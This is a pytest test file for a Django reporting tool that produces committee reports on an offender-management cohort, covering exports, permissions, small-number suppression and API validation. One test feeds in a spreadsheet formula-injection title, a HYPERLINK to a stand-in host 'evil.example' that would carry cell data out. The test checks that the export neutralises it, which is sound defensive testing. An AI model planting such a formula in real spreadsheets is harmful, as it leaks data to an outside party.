"""Writing a report, producing it once per request, reading its three documents back, and
surviving a worker lost mid-run."""

from __future__ import annotations

import io
import uuid
from datetime import date

import pypdf
import pytest
from django.core.exceptions import ValidationError
from docx import Document
from openpyxl import load_workbook

from reporting import services
from reporting.models import Report, ReportVersion, Target, VersionStatus
from reporting.services import report_save, version_generate, version_request
from tests.factories import make_nominal

pytestmark = pytest.mark.django_db

FORM = {
    "title": "Reducing reoffending update",
    "committee": "Crime and Disorder Overview and Scrutiny Committee",
    "period": "fy-2025",
    "panels": [],
    "compare": "previous",
    "summary": "This report updates Members on the IOM cohort.",
    "recommendations": "That Members note the progress.",
}


def _report(p) -> Report:
    return report_save(
        actor=p.committee,
        report=None,
        panels=[p.panel],
        title="Annual update",
        period_start=date(2025, 4, 1),
        period_end=date(2026, 3, 31),
        compare_start=date(2024, 4, 1),
        compare_end=date(2025, 3, 31),
        summary="First paragraph.\n\nSecond paragraph.",
    )


def _docx_text(content: bytes) -> str:
    document = Document(io.BytesIO(content))
    parts = [paragraph.text for paragraph in document.paragraphs]
    for table in document.tables:
        parts += [cell.text for row in table.rows for cell in row.cells]
    return "\n".join(parts)


def _pdf_text(content: bytes) -> str:
    return "\n".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(content)).pages)


def test_committee_officer_writes_and_produces_a_report(
    partnership, client_for, django_capture_on_commit_callbacks
):
    p = partnership
    client = client_for(p.committee)
    response = client.post("/reports/new/", {**FORM, "panels": [p.panel.pk]})
    assert response.status_code == 302
    report = Report.objects.get()
    assert (report.period_start, report.period_end) == (date(2025, 4, 1), date(2026, 3, 31))
    assert (report.compare_start, report.compare_end) == (date(2024, 4, 1), date(2025, 3, 31))

    token = str(uuid.uuid4())
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/reports/{report.pk}/generate/", {"request_token": token})
    assert response.status_code == 302
    version = ReportVersion.objects.get()
    assert version.status == VersionStatus.DONE and version.progress == 100

    page = client.get(f"/reports/{report.pk}/versions/1/")
    assert page.status_code == 200
    assert b"Headline figures" in page.content and b"Cohort size" in page.content
    assert b"data:image/png;base64," in page.content

    docx = client.get(f"/reports/{report.pk}/versions/1/report.docx")
    pdf = client.get(f"/reports/{report.pk}/versions/1/report.pdf")
    xlsx = client.get(f"/reports/{report.pk}/versions/1/report.xlsx")
    for response in (docx, pdf, xlsx):
        assert response.status_code == 200
        assert response["Content-Disposition"].startswith(
            'attachment; filename="reducing-reoffending-update-version-1.'
        )
    docx_text, pdf_text = _docx_text(docx.content), _pdf_text(pdf.content)
    for heading in (
        "Summary",
        "Recommendations",
        "Report detail",
        "Headline figures",
        "Drug and alcohol treatment requirements",
        "Action plan progress by RAG",
        "Notes",
    ):
        assert heading in docx_text
        assert heading in pdf_text
    assert "That Members note the progress." in docx_text
    workbook = load_workbook(io.BytesIO(xlsx.content))
    assert "Headline figures" in workbook.sheetnames
    assert "RAG reviews by month" in workbook.sheetnames
    assert "Definitions" in workbook.sheetnames


def test_the_same_request_twice_makes_one_version(partnership, django_capture_on_commit_callbacks):
    report = _report(partnership)
    token = uuid.uuid4()
    with django_capture_on_commit_callbacks(execute=True):
        first = version_request(actor=partnership.committee, report=report, request_token=token)
        second = version_request(actor=partnership.committee, report=report, request_token=token)
    assert first.pk == second.pk
    assert ReportVersion.objects.count() == 1
    with django_capture_on_commit_callbacks(execute=True):
        again = version_request(
            actor=partnership.committee, report=report, request_token=uuid.uuid4()
        )
    assert again.number == 2


def test_old_versions_keep_their_figures_when_the_data_changes(
    partnership, django_capture_on_commit_callbacks
):
    p = partnership
    report = _report(p)
    with django_capture_on_commit_callbacks(execute=True):
        version_request(actor=p.committee, report=report, request_token=uuid.uuid4())
    Target.objects.create(
        panel=p.panel, measure="cohort_size", year=2025, value=310, set_by=p.committee
    )
    with django_capture_on_commit_callbacks(execute=True):
        version_request(actor=p.committee, report=report, request_token=uuid.uuid4())
    first, second = ReportVersion.objects.order_by("number")

    def target_of(version: ReportVersion):
        cohort = next(
            item for item in version.figures["headline"] if item["key"] == "cohort_at_end"
        )
        return cohort["target"]

    assert target_of(first) is None
    assert target_of(second) == {"value": 310, "display": "310"}


def test_same_data_and_period_give_identical_figures(
    partnership, django_capture_on_commit_callbacks
):
    p = partnership
    report = _report(p)
    with django_capture_on_commit_callbacks(execute=True):
        version_request(actor=p.committee, report=report, request_token=uuid.uuid4())
        version_request(actor=p.committee, report=report, request_token=uuid.uuid4())
    first, second = (
        {k: v for k, v in version.figures.items() if k != "taken_at"}
        for version in ReportVersion.objects.order_by("number")
    )
    assert first == second


def test_a_version_left_running_by_a_lost_worker_is_finished_by_the_next(partnership):
    p = partnership
    report = _report(p)
    version = ReportVersion.objects.create(
        report=report,
        number=1,
        requested_by=p.committee,
        status=VersionStatus.RUNNING,
        claim="lost",
        attempts=1,
    )
    finished = version_generate(version.pk)
    assert finished is not None
    assert finished.status == VersionStatus.DONE and finished.attempts == 2
    assert bytes(finished.pdf).startswith(b"%PDF")


def test_a_late_result_from_an_attempt_taken_over_is_refused(partnership, monkeypatch):
    p = partnership
    report = _report(p)
    version = ReportVersion.objects.create(report=report, number=1, requested_by=p.committee)
    from reporting.documents import xlsx

    real = xlsx.render_xlsx

    def taken_over(*args, **kwargs):
        # Another worker claims the version while this one is still drawing.
        ReportVersion.objects.filter(pk=version.pk).update(claim="another")
        return real(*args, **kwargs)

    monkeypatch.setattr(xlsx, "render_xlsx", taken_over)
    version_generate(version.pk)
    version.refresh_from_db()
    assert version.status == VersionStatus.RUNNING
    assert version.claim == "another" and not version.docx


def test_a_failed_version_says_so_and_can_be_tried_again(
    partnership, client_for, monkeypatch, django_capture_on_commit_callbacks
):
    p = partnership
    report = _report(p)
    from reporting.documents import pdf

    def broken(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(pdf, "render_pdf", broken)
    version = ReportVersion.objects.create(report=report, number=1, requested_by=p.committee)
    with pytest.raises(RuntimeError):
        version_generate(version.pk)
    version.refresh_from_db()
    assert version.status == VersionStatus.FAILED
    assert "could not be produced" in version.error
    client = client_for(p.committee)
    assert b"Try again" in client.get(f"/reports/{report.pk}/versions/1/").content
    monkeypatch.undo()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/reports/{report.pk}/versions/1/restart/")
    version.refresh_from_db()
    assert version.status == VersionStatus.DONE


def test_a_report_needs_its_period_dates_in_order(partnership, client_for):
    p = partnership
    response = client_for(p.committee).post(
        "/reports/new/",
        {
            **FORM,
            "panels": [p.panel.pk],
            "period": "dates",
            "start-day": "1",
            "start-month": "4",
            "start-year": "2025",
            "end-day": "1",
            "end-month": "3",
            "end-year": "2025",
        },
    )
    assert response.status_code == 200
    assert b"The end date must be the same as or after the start date" in response.content
    assert not Report.objects.exists()


def test_partners_cannot_write_reports(partnership, client_for):
    client = client_for(partnership.partner)
    assert client.get("/reports/new/").status_code == 403
    page = client.get("/reports/")
    assert page.status_code == 200 and b"Reports are written by committee officers" in page.content


def test_a_coordinator_reports_only_on_their_own_panels(partnership, client_for):
    p = partnership
    report = _report(p)
    assert client_for(p.coordinator).get(f"/reports/{report.pk}/").status_code == 200
    assert client_for(p.outsider_coordinator).get(f"/reports/{report.pk}/").status_code == 404
    response = client_for(p.outsider_coordinator).post(
        "/reports/new/", {**FORM, "panels": [p.panel.pk]}
    )
    assert (
        response.status_code == 200
        and not Report.objects.filter(created_by=p.outsider_coordinator).exists()
    )


def test_targets_keep_their_history(partnership, client_for):
    p = partnership
    client = client_for(p.coordinator)
    for value in ("70", "310"):
        response = client.post(
            "/reports/targets/",
            {"panel": p.panel.pk, "measure": "cohort_size", "year": "2025", "value": value},
        )
        assert response.status_code == 302
    assert list(Target.objects.order_by("set_at").values_list("value", flat=True)) == [70, 310]
    page = client.get("/reports/targets/")
    assert b"310" in page.content and b"70" in page.content
    bad = client.post(
        "/reports/targets/",
        {"panel": p.panel.pk, "measure": "cohort_size", "year": "2025", "value": "lots"},
    )
    assert b"Enter the target as a whole number" in bad.content


def test_only_committee_officers_set_unit_costs(partnership, client_for):
    p = partnership
    data = {
        "offence_type": "burglary",
        "cost": "5930",
        "source": "Home Office (2018)",
        "price_year": "2016",
    }
    assert client_for(p.coordinator).post("/reports/unit-costs/", data).status_code == 403
    assert client_for(p.committee).post("/reports/unit-costs/", data).status_code == 302
    page = client_for(p.coordinator).get("/reports/unit-costs/")
    assert (
        b"Home Office (2018)" in page.content
        and b"Committee officers set the unit costs" in page.content
    )


def test_dashboard_hides_small_numbers_from_the_committee_but_not_the_coordinator(
    partnership, client_for
):
    p = partnership
    from panels.models import CohortMembership

    for number in range(3):
        nominal = make_nominal(p.coordinator, family_name=f"Small{number}")
        CohortMembership.objects.create(
            nominal=nominal,
            panel=p.panel,
            status="active",
            referred_on=date(2025, 1, 1),
            start=date(2025, 1, 1),
        )
    query = "?period=fy-2025"
    committee = client_for(p.committee).get("/reports/dashboard/" + query)
    coordinator = client_for(p.coordinator).get("/reports/dashboard/" + query)
    assert b'data-figure="cohort_size">fewer than 5<' in committee.content
    assert b'data-figure="cohort_size">3<' in coordinator.content
    api = client_for(p.committee).get("/api/v1/figures/?start=2025-04-01&end=2026-03-31").json()
    size = next(item for item in api["headline"] if item["key"] == "cohort_size")
    assert size["value"] is None and size["display"] == "fewer than 5"
    assert client_for(p.partner).get("/api/v1/figures/").status_code == 403


def test_the_definitions_page_says_what_each_figure_means(partnership, client_for):
    page = client_for(partnership.committee).get("/reports/definitions/")
    assert b'id="rag_fell"' in page.content
    assert b"never went up from one review to the next" in page.content


def test_services_refuse_people_who_may_not_report(partnership):
    from django.core.exceptions import PermissionDenied

    with pytest.raises(PermissionDenied):
        services.report_save(
            actor=partnership.partner,
            report=None,
            panels=[partnership.panel],
            title="x",
            period_start=date(2025, 4, 1),
            period_end=date(2026, 3, 31),
        )


def test_small_numbers_are_hidden_in_every_document_and_text_is_never_a_formula(
    partnership, django_capture_on_commit_callbacks
):
    from panels.models import CohortMembership

    p = partnership
    for number in range(3):
        nominal = make_nominal(p.coordinator, family_name=f"Few{number}")
        CohortMembership.objects.create(
            nominal=nominal,
            panel=p.panel,
            status="active",
            referred_on=date(2025, 1, 1),
            start=date(2025, 1, 1),
        )
    report = report_save(
        actor=p.committee,
        report=None,
        panels=[p.panel],
        title='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        period_start=date(2025, 4, 1),
        period_end=date(2026, 3, 31),
    )
    with django_capture_on_commit_callbacks(execute=True):
        version = version_request(actor=p.committee, report=report, request_token=uuid.uuid4())
    version.refresh_from_db()
    cohort = next(item for item in version.figures["headline"] if item["key"] == "cohort_size")
    assert cohort == {**cohort, "value": None, "display": "fewer than 5", "suppressed": True}

    docx_text, pdf_text = _docx_text(bytes(version.docx)), _pdf_text(bytes(version.pdf))
    assert "fewer than 5" in docx_text
    assert "fewer than 5" in pdf_text
    workbook = load_workbook(io.BytesIO(bytes(version.xlsx)))
    headline = {
        row[0]: row[1]
        for row in workbook["Headline figures"].iter_rows(min_row=2, values_only=True)
    }
    assert headline["Cohort size"] == "fewer than 5"
    # Nowhere does the count of 3 appear as a number of people.
    assert 3 not in headline.values()
    about = {row[0]: row[1] for row in workbook["About"].iter_rows(values_only=True)}
    assert about["Report"].startswith("'=HYPERLINK")
    assert all(
        cell.data_type != "f"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
    )


@pytest.mark.parametrize(
    ("query", "field", "message"),
    [
        ("start=2025-13-01&end=2026-03-31", "start", "Enter a date as YYYY-MM-DD"),
        ("start=2025-04-01", "end", "Give both start and end"),
        ("start=2026-04-01&end=2025-03-31", "end", "on or after the start"),
        ("start=1900-01-01&end=2100-12-31", "end", "five years or less"),
        ("panels=one,two", "panels", "as numbers"),
        ("panels=999999", "panels", "None of these panels"),
    ],
)
def test_the_figures_api_says_what_is_wrong_with_its_question(
    partnership, client_for, query, field, message
):
    response = client_for(partnership.committee).get(f"/api/v1/figures/?{query}")
    assert response.status_code == 400
    assert message in str(response.json()[field])


def test_a_report_with_several_problems_is_refused_naming_them_all(partnership):
    with pytest.raises(ValidationError) as refused:
        report_save(
            actor=partnership.committee,
            report=None,
            panels=[partnership.panel],
            title="",
            period_start=date(2025, 4, 1),
            period_end=date(2026, 3, 31),
            compare_start=date(2024, 4, 1),
        )
    problems = refused.value.message_dict
    assert problems["compare_start"] == ["Enter both dates of the period to compare with"]
    assert "title" in problems
    assert not Report.objects.exists()
